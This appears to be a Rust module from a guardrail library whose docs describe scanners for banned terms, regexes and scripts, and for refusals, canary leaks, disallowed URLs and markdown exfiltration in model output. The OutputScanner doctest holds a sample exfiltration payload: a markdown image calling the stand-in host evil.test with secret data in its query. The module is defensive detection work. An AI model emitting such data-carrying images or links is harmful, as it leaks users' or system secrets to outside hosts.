//! Text rules for input and output: [`TextScanner`] (banned terms, user term lists, regular
//! expressions, length limits, allowed scripts; `scanner: "text"`) and [`OutputScanner`]
//! (refusals, canary leaks, URLs to hosts not allowed, markdown/HTML exfiltration;
//! `scanner: "output"`).
//!
//! # `TextScanner` options
//!
//! | option | meaning | finding |
//! |---|---|---|
//! | `banned` | strings, or `{ terms, kind?, wholeWords?: true, caseSensitive?: false, foldAccents?: true }` | `BANNED_TERM` (or `kind`), `detail.term` |
//! | `terms` | `[{ kind, values, wholeWords?, caseSensitive?, foldAccents? }]`: user lists for what would need NER (names, addresses, code names) | `kind`, `detail.term` |
//! | `regex` | patterns, or `{ pattern, kind?, flags?: "ims", name? }` | `REGEX_MATCH` (or `kind`), `detail.name` |
//! | `maxChars`, `maxBytes`, `maxLines` | length limits | `TOO_LONG` over the overflow, `detail.limit/max/actual` |
//! | `minChars` | minimum length | `TOO_SHORT` over the whole text (see below) |
//! | `scripts`, `languages` | allowed Unicode scripts (`Latin`, `Cyrillic`, `Han`...), or ISO 639-1 codes standing for theirs (`ja` = Han + Hiragana + Katakana) | `DISALLOWED_SCRIPT` per run, `detail.script` |
//!
//! Terms are all found by **one** Aho-Corasick automaton run over a folded view of the text:
//! case folded (Unicode lowercase plus the case folds that differ from it, such as `ß`→`ss`
//! and final sigma) and accent folded (precomposed Latin and Greek letters to their base
//! letter from compact tables, combining marks dropped, `æ`→`ae`, `ё`→`е`, fullwidth ASCII
//! to ASCII, curly apostrophes to `'`). Matches are mapped back to the original text. A term
//! that is case- or accent-sensitive is checked again under its own folding. `wholeWords`
//! requires that the match does not continue a word (letters, digits, marks or `_`) on a side
//! where the term itself begins or ends with a word character; next to characters of scripts
//! written without spaces (Han, kana, Thai...) any position is a word edge.
//!
//! Regular expressions use regex-lite, a Pike VM: matching time is linear in the text for a
//! given pattern (no backtracking, so `(a+)+$` cannot blow up), but each pattern costs a
//! full pass at regex-lite's speed (tens of MB/s), unless the pattern has a required literal
//! the text lacks (then it is skipped). Case-insensitive matching is ASCII-only and classes
//! like `\p{L}` are refused (regex-lite limits). Patterns longer than
//! [`MAX_PATTERN_BYTES`](rules::MAX_PATTERN_BYTES) or over regex-lite's nesting and size
//! limits are refused with `invalid_argument` (`details.option`, `details.error`). Empty
//! matches are skipped.
//!
//! `TOO_SHORT` covers the whole text; for an empty text that is the empty span `0..0`, the one
//! case where a finding has `start == end`.
//!
//! ```
//! use bridle::guard::{text::TextScanner, Scanner};
//! use serde_json::json;
//! let scanner = TextScanner::from_options(&json!({
//!     "banned": ["top secret", { "terms": ["Projekt Straße"], "kind": "CODE_NAME" }],
//!     "terms": [{ "kind": "PERSON", "values": ["José Núñez"] }],
//!     "regex": [{ "pattern": r"\bPRJ-\d{4}\b", "kind": "TICKET", "name": "ticket" }],
//!     "maxChars": 200,
//!     "scripts": ["Latin"],
//! })).unwrap();
//! let text = "TOP SECRET: jose nunez on PROJEKT STRASSE, see PRJ-1234. Привет";
//! let mut found = Vec::new();
//! scanner.scan(text, &mut found);
//! bridle::guard::sort_findings(&mut found);
//! let got: Vec<_> = found.iter().map(|f| (f.kind.as_ref(), f.text(text))).collect();
//! assert_eq!(got, [
//!     ("BANNED_TERM", "TOP SECRET"), ("PERSON", "jose nunez"), ("CODE_NAME", "PROJEKT STRASSE"),
//!     ("TICKET", "PRJ-1234"), ("DISALLOWED_SCRIPT", "Привет"),
//! ]);
//! ```
//!
//! # `OutputScanner` options
//!
//! | option | meaning | finding |
//! |---|---|---|
//! | `refusal` | `true` or `{ minScore?: 0.5 }`: refusal and deflection phrases (en, es, fr, de, it, pt, zh, ja) on the folded text; nearby phrases make one finding whose score combines theirs | `REFUSAL`, `score`, `detail.phrases` |
//! | `canaries` | strings (see [`canary_from_bytes`]) | `CANARY_LEAK`, `detail.canary`, `detail.exact` |
//! | `urls` | `{ allow: ["example.com", "*.docs.example.com"], schemes?: ["http", "https"] }` | `URL_NOT_ALLOWED`, `detail.url/host/scheme/reason` |
//! | `markdownExfiltration` | `true` (default) or `false` | `MARKDOWN_EXFILTRATION`, `detail.url/host/element` |
//!
//! Canaries are compared on letters and digits only, folded: a leak is found also when the
//! model changes case or puts spaces, dashes or zero-width characters between the characters
//! (at most three non-alphanumeric characters in a row). Canaries need 8 to 200 letters and
//! digits, so that this cannot match by chance.
//!
//! URLs are `http`, `https`, `ftp`, `data` and `javascript` URLs and bare `www.` hosts, with
//! GFM autolink extents (trailing punctuation and unbalanced closing parentheses are not part
//! of a URL). Hosts are compared after removing userinfo and port, percent-decoding,
//! lowercasing and converting non-ASCII labels to punycode; `example.com` allows that host
//! only, `*.example.com` any subdomain of it (not the apex). Schemes not listed (default:
//! `http`, `https`) are reported whatever the host. IPv4 addresses in unusual notations
//! (`http://2130706433/`) are compared as written, so they are not allowed unless listed so.
//!
//! Markdown exfiltration: images load without a click, so every image — inline `![a](url)`,
//! reference-style `![a][ref]` with `[ref]: url`, HTML `<img src=...>` — whose URL names a
//! host outside `urls.allow` is reported (relative and `data:` URLs pass); links `[a](url)`
//! are reported when the host is not allowed and the URL carries data (a query, a fragment,
//! a long path segment or percent-encoded bytes). `srcset`, CSS `url()` and autolinked bare
//! image URLs are not looked at.
//!
//! ```
//! use bridle::guard::{text::OutputScanner, Scanner};
//! use serde_json::json;
//! let scanner = OutputScanner::from_options(&json!({
//!     "refusal": true,
//!     "urls": { "allow": ["example.com"] },
//! })).unwrap();
//! let text = "I'm sorry, but I can't help with that. ![x](https://evil.test/p.png?d=secret)";
//! let mut found = Vec::new();
//! scanner.scan(text, &mut found);
//! bridle::guard::sort_findings(&mut found);
//! let kinds: Vec<_> = found.iter().map(|f| f.kind.as_ref()).collect();
//! assert_eq!(kinds, ["REFUSAL", "MARKDOWN_EXFILTRATION", "URL_NOT_ALLOWED"]);
//! assert_eq!(found[1].detail["host"], "evil.test");
//! ```
//!
//! Both scanners run in time linear in the text: every pass is an automaton or a forward
//! scan, and every look-around is bounded by a constant window.

mod fold;
pub mod output;
pub mod rules;
mod scripts;
mod terms;
mod urls;

pub use output::{canary_from_bytes, OutputScanner};
pub use rules::TextScanner;

use crate::guard::options::invalid;
use crate::Result;
pub(crate) use fold::{Fold, FULL};
use std::borrow::Cow;

/// Checks a user-given finding kind: upper snake case, at most 64 characters.
pub(crate) fn check_kind(at: &str, kind: &str) -> Result<Cow<'static, str>> {
    let valid = !kind.is_empty()
        && kind.len() <= 64
        && kind.as_bytes()[0].is_ascii_uppercase()
        && kind.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
    if !valid {
        let path = format!("{at}.kind");
        return Err(invalid(&path, format!("option '{path}' must be UPPER_SNAKE_CASE (A-Z, 0-9, _), got '{kind}'")));
    }
    Ok(Cow::Owned(kind.to_owned()))
}
